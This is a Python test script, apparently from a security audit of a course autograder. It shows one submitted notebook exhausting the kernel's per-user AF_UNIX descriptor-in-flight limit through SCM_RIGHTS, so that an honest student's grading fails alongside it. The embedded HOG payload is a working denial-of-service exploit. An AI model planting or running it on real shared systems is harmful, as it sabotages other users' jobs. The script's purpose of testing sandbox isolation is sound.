"""a05: file descriptors in flight in AF_UNIX sockets are counted per host user (user_struct.unix_inflight), not per
user namespace, and a process may pass one more only while that count is at most its RLIMIT_NOFILE (1,280 in a
sandbox). As root, every sandbox runs as host uid 65534, so one kernel that sends its own socket to itself ~1,500
times and never reads makes SCM_RIGHTS fail (ETOOMANYREFS) for every other sandbox graded beside it. Ranks started by
multiprocessing's fork server (the launcher's choice on a GPU machine, DISTCOURSE_START_METHOD=forkserver here) hand
their descriptors to the server that way. Graded with --workers 2 as a TA grading in parallel would, the grader's
environment asking for the fork server. Honest control: the solution of ps2, graded at the same time
(and alone first, as the baseline)."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import common14  # noqa: E402
from common14 import course, show, notebook, cleanup, PY, ROOT, CANARY_ENV  # noqa: E402
import subprocess, time  # noqa: E402

sys.path.insert(0, ROOT)
from tools.submissions import fill, source_and_release  # noqa: E402

HOG = r'''
import socket as _s, array as _a, time as _t
_hog_a, _hog_b = _s.socketpair()
_n = 0
try:
    while True:
        _hog_a.sendmsg([b"x"], [(_s.SOL_SOCKET, _s.SCM_RIGHTS, _a.array("i", [_hog_a.fileno()] * 250))]); _n += 250
except OSError as _e:
    print(f"A14 hog: {_n} descriptors in flight, then {_e}", flush=True)
'''
SLEEP = "import time; time.sleep(25)\n"


def mutate(nb):
    for c in nb.cells:
        gid = c.metadata.get("nbgrader", {}).get("grade_id")
        if gid == "average_gradients":
            c.source = HOG + "\ndef average_gradients(model):\n    pass\n"
        elif gid in ("quiz_q1", "quiz_q2", "quiz_q3", "quiz_q4"):
            c.source = SLEEP + f"{gid[-2:]} = 'a'\n"


def run(dest, workers):
    env = {**os.environ, **CANARY_ENV, "DISTCOURSE_START_METHOD": "forkserver"}
    cmd = [PY, "-m", "tools.grade", "--course-dir", dest, "--workers", str(workers)]
    print("$ DISTCOURSE_START_METHOD=forkserver", " ".join(c.replace(ROOT, "<clone>") for c in cmd))
    t = time.time()
    p = subprocess.run(cmd, cwd=ROOT, env=env, capture_output=True, text=True)
    print(f"grade rc={p.returncode} in {time.time() - t:.0f}s")
    print(p.stdout[-2500:].replace(ROOT, "<clone>"), p.stderr[-1500:].replace(ROOT, "<clone>"))


s, r = source_and_release("ps2_ddp")
print("=== baseline: the honest ps2 alone, fork server asked for")
dest = course("/tmp/attack14-a05-base", {"alice_honest": fill(r, s, {})}, "ps2_ddp")
run(dest, 1)
show(dest)
cleanup(dest)
print("=== attack: the honest ps2 and the hog graded side by side (--workers 2)")
dest = course("/tmp/attack14-a05", {"alice_honest": fill(r, s, {}), "mallory": notebook(mutate=mutate, assignment="ps2_ddp")}, "ps2_ddp")
run(dest, 2)
show(dest)
import nbformat  # noqa: E402
for student in ("alice_honest", "mallory"):
    nb = nbformat.read(os.path.join(dest, "autograded", student, "ps2_ddp", "ps2_ddp.ipynb"), 4)
    for c in nb.cells:
        for o in c.get("outputs", []):
            t = o.get("text") or (o.get("ename", "") + ": " + o.get("evalue", ""))
            if "A14" in t or (student == "alice_honest" and o.get("output_type") == "error"):
                print(f"--- {student} [{c.metadata.get('nbgrader', {}).get('grade_id')}] {t[:1500]}")
cleanup(dest)
print("cleaned up")
